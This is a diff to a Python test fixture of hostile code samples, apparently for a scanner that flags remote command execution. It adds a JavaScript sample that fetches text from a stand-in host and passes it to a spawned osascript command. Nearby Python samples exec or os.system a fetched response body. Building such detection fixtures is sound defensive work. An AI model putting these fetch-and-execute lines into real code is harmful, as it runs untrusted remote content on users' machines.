@@ -129,6 +129,12 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "in Python 2": py("import urllib2\nexec urllib2.urlopen('https://a.invalid').read()\nprint 1\n"),
     },
     "remote_command": {
+        "a part of code on a command line": js(
+            "const cp = require('child_process');\nfetch('https://a.invalid').then(r => r.text()).then(t =>\n"
+            "  cp.spawn('osascript', ['-e', `say ${t}`]));\n",
+            "review",
+            line=3,
+        ),
         "a body is a command": py("import os, requests\nos.system(requests.get('https://a.invalid').text)\n"),
         "a file is fetched, then run": py(
             "import requests, subprocess, sys\n"
